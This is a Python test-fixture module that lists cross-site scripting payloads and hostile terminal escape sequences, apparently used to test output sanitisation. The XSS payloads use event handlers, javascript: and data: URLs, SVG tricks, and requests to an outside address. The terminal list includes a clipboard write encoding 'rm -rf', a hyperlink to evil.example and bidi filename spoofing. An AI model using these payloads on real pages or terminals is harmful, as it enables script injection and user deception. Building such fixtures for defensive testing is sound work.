"""Hostile text for documents, questions, answers and reasons: for browsers and terminals."""

SPRUNG = "document.documentElement.setAttribute('data-sprung','1')"
"""A script that marks the page it runs in, written without double quotes."""


def markup(address: str) -> list[str]:
    """Return ways to run a script in a page, or to make it request something from `address`, without a click."""
    js = SPRUNG
    coded = "".join(f"&#{ord(c)};" for c in js)
    return [
        f"<script>{js}</script>",
        f"</p></td></blockquote><script>{js}</script>",
        f"--><script>{js}</script>",
        f"<ScRiPt >{js}</sCrIpT\n>",
        f"<script src='{address}/a.js'></script>",
        f'<script src="data:text/javascript,{js}"></script>',
        f"<svg><script>{coded}</script></svg>",
        f"<svg><animate onbegin={js} attributeName=x dur=1s>",
        f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>#x\">",
        f"<img src=x onerror={js}>",
        f"<img src='{address}/a.png'>",
        f"<body onload={js}>",
        f'<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
        f'<iframe src="javascript:parent.{js}"></iframe>',
        f'<object data="javascript:{js}"></object>',
        f"<input autofocus onfocus={js}>",
        f"<details open ontoggle={js}>x</details>",
        f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{js}">x</p>',
        f"<style>@import '{address}/a.css'; body {{ background: url('{address}/b.gif') }}</style>",
        f"<link rel=stylesheet href='{address}/c.css'>",
        f'<meta http-equiv=refresh content="0;url={address}/meta">',
        f"<base href='{address}/base/'><img src=relative.png>",
        f"' autofocus tabindex=1 onfocus={js} x='",
    ]


ESCAPES = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1bc",
    "\x9b31mred",
    "a\rminirag: done",
    "a\bb\x7f",
    "\x07\x07",
    "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "safe\u202egnp.exe\u202c \u2066turned\u2069 \u200f\u061c",
]
"""Texts that a terminal obeys or shows as something else."""
